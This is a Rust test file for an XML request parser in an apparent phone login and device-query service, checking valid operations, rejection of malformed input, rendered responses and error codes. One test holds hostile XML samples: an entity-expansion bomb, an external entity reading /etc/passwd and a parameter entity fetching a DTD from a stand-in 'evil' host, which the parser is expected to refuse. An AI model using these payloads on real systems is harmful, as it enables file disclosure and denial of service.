use smol_str::SmolStr;

use super::tree::Element;
use super::*;
use crate::sample::golden;

const APP: &str = "<appInfo><appID>tool</appID><appCertificate>s3cret &amp; more</appCertificate></appInfo>";

fn names(names: &[&str]) -> Vec<SmolStr> {
    names.iter().copied().map(SmolStr::from).collect()
}

fn parse(document: &str) -> Result<Operation, Malformed> {
    Request::parse(document).map(|request| request.operation)
}

#[test]
fn every_operation_is_understood() {
    let login = |profile: Option<&str>, exclusive| Operation::Login {
        device: "SEP00562B04A1B2".into(),
        user: "maria".into(),
        profile: profile.map(SmolStr::from),
        exclusive,
    };
    const WHO: &str = "<deviceName>SEP00562B04A1B2</deviceName><userID>maria</userID>";
    for (document, expected) in [
        (
            format!("<request>{APP}<login>{WHO}</login></request>"),
            login(None, None),
        ),
        (
            format!(
                "<request>{APP}<login>{WHO}<deviceProfile>maria</deviceProfile><exclusiveDuration><time>60</time>\
                 </exclusiveDuration></login></request>"
            ),
            login(Some("maria"), Some(Exclusive::Minutes(60))),
        ),
        (
            format!(
                "<request>{APP}<login>{WHO}<exclusiveDuration><indefinite/></exclusiveDuration></login></request>"
            ),
            login(None, Some(Exclusive::Indefinite)),
        ),
        (
            format!("<request>{APP}<logout><deviceName>SEP00562B04A1B2</deviceName></logout></request>"),
            Operation::Logout {
                device: "SEP00562B04A1B2".into(),
            },
        ),
        (
            format!("<request>{APP}<logoutAll/></request>"),
            Operation::LogoutAll,
        ),
        (
            format!(
                "<query>{APP}<deviceUserQuery><deviceName>SEP1</deviceName><deviceName>SEP2</deviceName>\
                 </deviceUserQuery></query>"
            ),
            Operation::DeviceUser {
                devices: names(&["SEP1", "SEP2"]),
            },
        ),
        (
            format!(
                "<query>{APP}<userDevicesQuery><userID>a</userID><userID>b</userID></userDevicesQuery></query>"
            ),
            Operation::UserDevices {
                users: names(&["a", "b"]),
            },
        ),
        (
            format!("<query>{APP}<checkUser><userID>a</userID></checkUser></query>"),
            Operation::CheckUser { users: names(&["a"]) },
        ),
        (
            format!("<query>{APP}<deviceProfileQuery><userID>a</userID></deviceProfileQuery></query>"),
            Operation::DeviceProfiles { users: names(&["a"]) },
        ),
        (
            format!(
                "<query>{APP}<userDeviceProfileQuery><userID>a</userID></userDeviceProfileQuery></query>"
            ),
            Operation::DeviceProfiles { users: names(&["a"]) },
        ),
    ] {
        assert_eq!(parse(&document), Ok(expected), "{document}");
    }
}

#[test]
fn white_space_a_declaration_and_a_named_dtd_do_not_matter() {
    let document = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<!DOCTYPE query SYSTEM \"LoginQuery.dtd\">\r\n<query>\r\n\
         {APP}\r\n  <!-- who? -->\r\n  <userDevicesQuery>\r\n    <userID>\r\n  em@example.com </userID>\r\n  \
         <remoteIPAddr>10.1.2.3</remoteIPAddr><isViaHeaderSet>true</isViaHeaderSet></userDevicesQuery></query>\r\n"
    );
    let request = Request::parse(&document).unwrap();
    assert_eq!(request.application.id, "tool");
    assert_eq!(request.application.certificate.expose(), "s3cret & more");
    assert!(!request.application.is_encrypted);
    let users = names(&["em@example.com"]);
    assert_eq!(request.operation, Operation::UserDevices { users });
    assert_eq!(request.origin.remote_address.as_deref(), Some("10.1.2.3"));
    assert!(request.origin.is_via_set);
    assert!(!format!("{request:?}").contains("s3cret"));
}

#[test]
fn what_old_programs_add_does_no_harm() {
    let expected = Operation::Logout {
        device: "SEP1".into(),
    };
    for (before, inner) in [
        ("<!DOCTYPE request SYSTEM \"x\" []>", ""),
        ("<!DOCTYPE request SYSTEM \"x\" [ \r\n ]>", ""),
        ("<!DOCTYPE request>", "<loginType>UID</loginType>"),
        ("", "<loginType> DN </loginType>"),
        ("", "<loginType/>"),
    ] {
        let document = format!(
            "{before}<request a=\"1\" b='2'>{APP}<logout><deviceName>SEP1</deviceName>{inner}</logout></request>"
        );
        assert_eq!(parse(&document).as_ref(), Ok(&expected), "{document}");
    }
}

#[test]
fn an_encrypted_certificate_is_told_from_a_plain_one() {
    let document = "<request><appInfo><appID>x</appID><appEncryptedCertificate>6f2a</appEncryptedCertificate></appInfo>\
                    <logoutAll/></request>";
    assert!(Request::parse(document).unwrap().application.is_encrypted);
}

#[test]
fn what_is_not_of_the_grammar_is_refused_with_the_code_for_it() {
    let request = |inner: &str| format!("<request>{APP}{inner}</request>");
    let query = |inner: &str| format!("<query>{APP}{inner}</query>");
    for (document, code) in [
        (String::new(), Code::Parse),
        ("hello".into(), Code::Parse),
        ("<request>".into(), Code::Parse),
        ("<request></query>".into(), Code::Parse),
        ("<Request/>".into(), Code::Parse),
        ("<request/>".into(), Code::Parse),
        (format!("<request>{APP}</request>"), Code::Parse),
        (
            format!("<request>{APP}<logoutAll/></request><request/>"),
            Code::Parse,
        ),
        (format!("<request>{APP}<logoutAll/></request>x"), Code::Parse),
        (
            "<request><appInfo><appCertificate>x</appCertificate></appInfo><logoutAll/></request>".into(),
            Code::Parse,
        ),
        (request("<Login/>"), Code::Parse),
        (
            request("<login><deviceName>SEP1</deviceName></login>"),
            Code::Parse,
        ),
        (
            request("<login><deviceName> </deviceName><userID>a</userID></login>"),
            Code::Parse,
        ),
        (
            request("<login><devicename>SEP1</devicename><userID>a</userID></login>"),
            Code::Parse,
        ),
        (
            request("<logout><deviceName>SEP1</deviceName><deviceName>SEP2</deviceName></logout>"),
            Code::Parse,
        ),
        (
            request("<logout><deviceName><b/></deviceName></logout>"),
            Code::Parse,
        ),
        (request("<logoutAll/><logoutAll/>"), Code::Parse),
        (request("<logoutAll>x</logoutAll>"), Code::Parse),
        (request("x<logoutAll/>"), Code::Parse),
        (
            request("<logout>x<deviceName>SEP1</deviceName></logout>"),
            Code::Parse,
        ),
        (
            request("<logout a='1' a='2'><deviceName>SEP1</deviceName></logout>"),
            Code::Parse,
        ),
        (
            request("<logout a=1><deviceName>SEP1</deviceName></logout>"),
            Code::Parse,
        ),
        (
            request("<logout><deviceName>SEP1\u{0}</deviceName></logout>"),
            Code::Parse,
        ),
        (
            request("<logout><deviceName>SEP1\u{1}</deviceName></logout>"),
            Code::Parse,
        ),
        (
            request("<logout><deviceName>SEP1&#1;</deviceName></logout>"),
            Code::Parse,
        ),
        (
            format!("<!DOCTYPE request><!DOCTYPE request>{}", request("<logoutAll/>")),
            Code::Parse,
        ),
        (
            format!("{}<!DOCTYPE request>", request("<logoutAll/>")),
            Code::Parse,
        ),
        (request("<!DOCTYPE request><logoutAll/>"), Code::Parse),
        (
            format!("{}<?xml version=\"1.0\"?>", request("<logoutAll/>")),
            Code::Parse,
        ),
        (
            request("<logout><deviceName>SEP1</deviceName><loginType>XX</loginType></logout>"),
            Code::Parse,
        ),
        (
            request(
                "<login><deviceName>d</deviceName><userID>u</userID><exclusiveDuration><indefinite>x</indefinite>\
                 </exclusiveDuration></login>",
            ),
            Code::Parse,
        ),
        (
            query("<checkUser><userID>a</userID><userID> </userID></checkUser>"),
            Code::Parse,
        ),
        (
            request("<logoutAll><isViaHeaderSet>maybe</isViaHeaderSet></logoutAll>"),
            Code::Parse,
        ),
        (
            request(
                "<login><deviceName>d</deviceName><userID>u</userID><exclusiveDuration><time>x</time>\
                 </exclusiveDuration></login>",
            ),
            Code::Parse,
        ),
        (query("<somethingQuery/>"), Code::QueryType),
        (query(""), Code::QueryType),
        (query("<deviceUserQuery/>"), Code::Parse),
    ] {
        assert_eq!(
            parse(&document).map_err(|error| error.code()),
            Err(code),
            "{document}"
        );
    }
}

#[test]
fn bombs_do_not_go_off() {
    let laughs = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]>\
                  <request><appInfo><appID>&b;</appID></appInfo><logoutAll/></request>";
    let outside = "<!DOCTYPE r [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><request><appInfo><appID>&a;</appID>\
                   </appInfo><logoutAll/></request>";
    let undeclared = "<request><appInfo><appID>&a;</appID></appInfo><logoutAll/></request>";
    let parameter = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><request/>";
    for document in [laughs, outside, undeclared, parameter] {
        assert_eq!(parse(document), Err(Malformed::Entity), "{document}");
    }
    let deep = "<a>".repeat(100_000 / 8);
    assert_eq!(parse(&deep), Err(Malformed::TooMany));
    let wide = format!(
        "<query>{APP}<checkUser>{}</checkUser></query>",
        "<userID>a</userID>".repeat(101)
    );
    assert_eq!(parse(&wide), Err(Malformed::TooMany));
    let long = format!(
        "<request>{APP}<logout><deviceName>{}</deviceName></logout></request>",
        "x".repeat(513)
    );
    assert_eq!(parse(&long), Err(Malformed::TooLong));
    assert_eq!(parse(&" ".repeat(64 * 1024 + 1)), Err(Malformed::TooLong));
}

#[test]
fn a_hundred_names_are_not_too_many() {
    let users = "<userID>a</userID>".repeat(100);
    let document = format!("<query>{APP}<checkUser>{users}</checkUser></query>");
    assert!(matches!(parse(&document), Ok(Operation::CheckUser { users }) if users.len() == 100));
}

#[test]
fn answers_are_what_they_were() {
    let failure = Response::Failure {
        code: Code::InvalidApplication,
        text: "Could not authenticate 'a<b>&c' or \"d\"".into(),
    };
    let device = |current: Option<&str>, last: Option<&str>| DeviceResult::Users {
        current: current.map(SmolStr::from),
        last: last.map(SmolStr::from),
    };
    let profiles = vec![
        ("maria".into(), Some(names(&["maria", "maria-2"]))),
        ("lee".into(), Some(Vec::new())),
        ("nobody".into(), None),
    ];
    for (name, response) in [
        ("success", Response::Success),
        ("failure", failure),
        ("failure-text", Response::failure(Code::LoggedInElsewhere)),
        (
            "device-users",
            Response::DeviceUsers(vec![
                (
                    "SEP00562B04A1B2".into(),
                    device(Some("em@example.com"), Some("em@example.com")),
                ),
                ("SEP00562B04A1B3".into(), device(None, Some("lee"))),
                ("SEP00562B04A1B4".into(), device(None, None)),
                ("a\"<b>".into(), DeviceResult::DoesNotExist),
            ]),
        ),
        (
            "user-devices",
            Response::UserDevices(vec![
                (
                    "maria".into(),
                    UserResult::Devices(names(&["SEP00562B04A1B2", "SEP00562B04A1B3"])),
                ),
                ("lee".into(), UserResult::Devices(Vec::new())),
                ("nobody".into(), UserResult::DoesNotExist),
            ]),
        ),
        (
            "users",
            Response::Users(vec![("maria".into(), true), ("nobody".into(), false)]),
        ),
        ("profiles", Response::Profiles(profiles)),
    ] {
        golden(&format!("em/{name}.xml"), response.render().as_bytes());
    }
}

#[test]
fn codes_have_the_numbers_that_clients_know() {
    let numbers: Vec<_> = Code::ALL.iter().map(|code| code.number()).collect();
    let expected: Vec<u16> = (0..=47)
        .filter(|n| !(13..=17).contains(n) && ![24, 34].contains(n))
        .collect();
    assert_eq!(numbers, expected);
    for code in PhoneCode::ALL {
        assert!(code.text().ends_with(&format!("({})", code.number())), "{code:?}");
    }
}

proptest::proptest! {
    #[test]
    fn nothing_that_is_sent_makes_it_panic(document in "(<|>|/|&|;|!|\\[|\\]|\"| |[a-z]|request|query|appInfo|login|%|\\?|-|<!DOCTYPE|<!--|-->|\\PC){0,80}") {
        let _ = Request::parse(&document);
    }

    #[test]
    fn what_is_written_can_be_read_again(text in "\\PC{0,60}") {
        let response = Response::Failure { code: Code::Policy, text: format!("x{text}") };
        let read = Element::parse(&response.render()).unwrap();
        let expected = format!("x{text}");
        proptest::prop_assert_eq!(&read.children[0].children[0].text, expected.trim());
    }
}
